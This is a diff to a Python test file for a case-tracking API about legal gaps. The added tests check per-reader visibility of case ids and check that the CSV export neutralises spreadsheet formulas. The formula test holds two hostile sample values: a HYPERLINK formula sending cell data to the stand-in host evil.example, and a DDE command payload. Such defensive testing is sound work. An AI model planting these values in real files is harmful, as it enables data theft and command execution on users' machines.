@@ -83,7 +83,10 @@ def test_flag_a_case_link_a_second_and_list(env: Env) -> None:
 
     for who in ("desk-riec", "po-om", "po-politie", "desk-lsp"):  # RIEC participants and deciders
         assert gap["id"] in _gap_ids(env, who), who
+    for who in ("desk-riec", "po-politie"):  # the coordinating officer and a party see the tier-1 cases ...
         assert env.get(who, f"/v1/legal-gaps/{gap['id']}").json()["case_ids"] == [first, second]
+    for who in ("po-om", "desk-lsp"):  # ... the tier-2/3 deciders read the gap, not cases that are 404 to them
+        assert env.get(who, f"/v1/legal-gaps/{gap['id']}").json()["case_ids"] == []
     assert gap["id"] in _gap_ids(env, "desk-riec", status="identified", partnership=RIEC)
     assert gap["id"] not in _gap_ids(env, "desk-riec", status="on-agenda")
     assert gap["id"] not in _gap_ids(env, "desk-riec", partnership=ZVH)
@@ -120,6 +123,44 @@ def test_export_for_the_agenda(env: Env) -> None:
     # Outside the partnership the export holds the header only as far as this gap goes.
     assert gap["id"] not in env.get("po-abn", "/v1/legal-gaps/export").text
     assert env.get("cp-politie", "/v1/legal-gaps/export").status_code == 403
+
+
+def test_readers_of_a_gap_learn_only_the_cases_they_may_see(env: Env) -> None:
+    hidden, shown = env.open_case(), env.open_case()
+    env.move_up(shown, 3)  # tier 3: the OM (a tier-3 decider of the RIEC) sees it from now on
+    gap = _new_gap(env, "desk-riec", hidden)
+    assert _flag(env, "desk-riec", shown, gap_id=gap["id"]).json()["case_ids"] == [hidden, shown]
+    assert env.get("po-om", f"/v1/escalations/{hidden}").status_code == 404  # may not know it exists
+    assert env.get("po-om", f"/v1/escalations/{shown}").status_code == 200
+    listed = next(g for g in env.get("po-om", "/v1/legal-gaps").json() if g["id"] == gap["id"])
+    assert listed["case_ids"] == [shown]
+    assert env.get("po-om", f"/v1/legal-gaps/{gap['id']}").json()["case_ids"] == [shown]
+    exported = env.get("po-om", "/v1/legal-gaps/export").text
+    assert [row[5] for row in csv.reader(io.StringIO(exported)) if row[0] == gap["id"]] == [shown]
+    assert hidden not in exported
+    # Linking or moving the gap answers with the same view of it.
+    third = env.open_case()
+    env.move_up(third, 3)
+    assert _flag(env, "po-om", third, gap_id=gap["id"]).json()["case_ids"] == [shown, third]
+    changed = _status(env, "desk-lsp", gap["id"], "on-agenda", 1)  # tier 2/3: sees the tier-3 cases only
+    assert changed.status_code == 200, changed.text
+    assert changed.json()["case_ids"] == [shown, third]
+
+
+def test_the_export_lets_no_spreadsheet_formula_through(env: Env) -> None:
+    title, description = '=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0"
+    gap = _new_gap_with(env, env.open_case(), title, description)
+    rows = [row for row in csv.reader(io.StringIO(env.get("desk-riec", "/v1/legal-gaps/export").text))
+            if row[0] == gap["id"]]
+    assert [row[3:5] for row in rows] == [["'" + title, "'" + description]]  # shown as text, not run
+    assert env.get("desk-riec", f"/v1/legal-gaps/{gap['id']}").json()["title"] == title  # the API keeps it as is
+
+
+def _new_gap_with(env: Env, case_id: str, title: str, description: str) -> dict[str, Any]:
+    response = _flag(env, "po-politie", case_id, title=title, description=description)
+    assert response.status_code == 200, response.text
+    gap: dict[str, Any] = response.json()
+    return gap
 
 
 def test_status_moves_forward_only_and_only_by_the_managing_organisations(env: Env) -> None:
